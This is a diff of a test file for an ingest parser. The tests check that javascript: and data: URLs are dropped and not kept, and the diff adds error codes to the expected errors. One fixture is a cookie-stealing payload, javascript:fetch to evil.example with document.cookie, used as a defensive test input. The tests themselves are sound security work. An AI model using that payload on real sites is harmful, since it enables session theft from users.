@@ -27,6 +27,8 @@ describe("[INGEST][URLS] only absolute http(s) URLs leave a parser", () => {
     expect(outcome.errors).toContainEqual({
       location: "document",
       message: `og:url "javascript:fetch('//evil.example/'+document.cookie)" dropped: only absolute http(s) URLs are kept`,
+      code: "item.urlDropped",
+      params: { value: `"javascript:fetch('//evil.example/'+document.cookie)"` },
     });
     expect(JSON.stringify(outcome.items)).not.toMatch(/javascript:|data:/);
   });
@@ -40,7 +42,12 @@ describe("[INGEST][URLS] only absolute http(s) URLs leave a parser", () => {
     };
     const fromFeed = parseInput({ name: "feed.json", bytes: encode(JSON.stringify(feed)), fetchedAt });
     expect(fromFeed.items[0]).toMatchObject({ url: "https://aikyn.kz/1", mediaUrls: [] });
-    expect(fromFeed.errors).toEqual([{ location: "$.items[0]", message: `media URL "data:image/png;base64,AAAA" dropped: only absolute http(s) URLs are kept` }]);
+    expect(fromFeed.errors).toEqual([{
+        location: "$.items[0]",
+        message: `media URL "data:image/png;base64,AAAA" dropped: only absolute http(s) URLs are kept`,
+        code: "item.urlDropped",
+        params: { value: `"data:image/png;base64,AAAA"` },
+      },]);
 
     const telegram = {
       id: 1234567890,
@@ -51,7 +58,7 @@ describe("[INGEST][URLS] only absolute http(s) URLs leave a parser", () => {
     expect(fromTelegram.items).toHaveLength(1);
     expect(fromTelegram.items[0]).toMatchObject({ links: ["https://gov.kz/x"], mediaUrls: [] });
     const location = fromTelegram.items[0]?.location ?? "";
-    expect(fromTelegram.errors).toEqual([{ location, message: `link "javascript:alert(1)" dropped: only absolute http(s) URLs are kept` }]);
+    expect(fromTelegram.errors).toEqual([{ location, message: `link "javascript:alert(1)" dropped: only absolute http(s) URLs are kept`, code: "item.urlDropped", params: { value: `"javascript:alert(1)"` } }]);
     expect(location).not.toBe("");
   });
 });
